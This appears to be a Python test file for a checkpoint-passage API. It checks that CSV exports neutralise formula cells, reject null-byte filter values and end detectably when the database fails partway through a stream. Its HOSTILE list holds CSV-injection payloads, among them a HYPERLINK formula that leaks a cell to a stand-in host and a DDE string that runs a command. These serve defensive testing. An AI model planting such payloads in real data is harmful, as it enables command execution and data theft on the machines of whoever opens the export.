"""CSV exports as an attacker and an officer's spreadsheet see them: formula cells
neutralised, a UTF-8 BOM, bad filters refused before the stream starts, and a stream
that fails midway ends in a way the client detects."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import Engine, event, insert
from sqlalchemy.exc import OperationalError

from services.api import pagination
from services.core.tables import passage_t, reading_t
from tests.support.api import assert_problem, bearer, export_rows

HOSTILE = [
    '=HYPERLINK("http://x"&A2,"y")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


def insert_passages(engine: Engine, codes: list[str], count: int | None = None) -> None:
    base = datetime(2020, 2, 5, 8, 0, tzinfo=UTC)
    total = count or len(codes)
    rows = [
        {
            "checkpoint_id": "cp-003",
            "msg_id": codes[n % len(codes)][:40] + f"#{n}",
            "ts": base + timedelta(seconds=n),
            "device_ts": base + timedelta(seconds=n),
            "received_at": base + timedelta(seconds=n),
            "clock_adjusted": False,
            "direction": "in",
            "kind": "person",
            "registration": "no_pass",
            "quarantined": False,
            "screened": False,
            "qr_pass": codes[n % len(codes)],
            "plate": codes[n % len(codes)][:16],
        }
        for n in range(total)
    ]
    with engine.begin() as conn:
        conn.execute(insert(passage_t), rows)


def test_formula_cells_are_neutralised_and_the_file_opens_as_utf8(
    client: TestClient, api_keys: dict[str, str], seeded_engine: Engine
) -> None:
    insert_passages(seeded_engine, [*HOSTILE, "PASS-0001", "张伟的通行码"])
    ts = datetime(2020, 2, 5, 9, 0, tzinfo=UTC)
    with seeded_engine.begin() as conn:
        conn.execute(
            insert(reading_t),
            {
                "checkpoint_id": "cp-003",
                "msg_id": "=1+1",
                "ts": ts,
                "device_ts": ts,
                "received_at": ts,
                "clock_adjusted": False,
                "temp_c": -1.5,  # a number, not text: stays a number
                "direction": "in",
                "operator": "@admin",
            },
        )
    officer = bearer(api_keys["officer"])
    rows = export_rows(client.get("/api/v1/passages/export.csv", headers=officer))
    codes = {r["qr_pass"] for r in rows}
    assert {"'" + code for code in HOSTILE} <= codes
    assert {"PASS-0001", "张伟的通行码"} <= codes  # ordinary text unchanged
    for row in rows:
        for column in ("qr_pass", "plate", "msg_id"):
            assert not row[column].startswith(pagination.FORMULA_STARTS), row
    readings = export_rows(client.get("/api/v1/readings/export.csv", headers=officer))
    assert [(r["msg_id"], r["operator"], r["temp_c"]) for r in readings] == [
        ("'=1+1", "'@admin", "-1.5")
    ]


def test_bad_filter_values_are_refused_before_the_stream_starts(
    client: TestClient, api_keys: dict[str, str]
) -> None:
    viewer = bearer(api_keys["viewer"])
    for path in ("/api/v1/passages/export.csv", "/api/v1/readings/export.csv"):
        for name in ("checkpoint_id", "site_id"):
            refused = client.get(path, params={name: "cp-001\x00"}, headers=viewer)
            body = assert_problem(refused, 422, name)
            assert "\x00" not in refused.text and body["errors"][0]["field"] == f"query.{name}"
        assert_problem(client.get(path, params={"from": "yesterday"}, headers=viewer), 422)


def test_a_stream_failing_midway_is_aborted_without_its_end_line(
    served: str,
    api_app: FastAPI,
    api_keys: dict[str, str],
    seeded_engine: Engine,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The database goes away after the first page: the client must not be able to
    take the half it got for the whole export."""
    insert_passages(seeded_engine, ["PASS-0001"], count=50)
    monkeypatch.setattr(pagination, "EXPORT_PAGE", 10)
    pages = 0

    def database_goes_away(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        nonlocal pages
        if "FROM passage" in statement and "ORDER BY" in statement:
            pages += 1
            if pages == 3:
                raise OperationalError(statement, {}, Exception("connection lost (test)"))

    event.listen(api_app.state.engine, "before_cursor_execute", database_goes_away)
    got = b""
    url = f"{served}/api/v1/passages/export.csv"
    with (
        pytest.raises(httpx.RemoteProtocolError, match="incomplete chunked read"),
        httpx.stream("GET", url, headers=bearer(api_keys["viewer"])) as response,
    ):
        assert response.status_code == 200
        for chunk in response.iter_bytes():
            got += chunk
    text = got.decode("utf-8")
    assert text.startswith(pagination.BOM) and text.count("\r\n") == 1 + 20  # header, two pages
    assert "# end of export" not in text
    event.remove(api_app.state.engine, "before_cursor_execute", database_goes_away)
    pages = -100  # the same export, with the database back, is complete
    complete = httpx.get(f"{served}/api/v1/passages/export.csv", headers=bearer(api_keys["viewer"]))
    assert len(export_rows(complete)) == 50
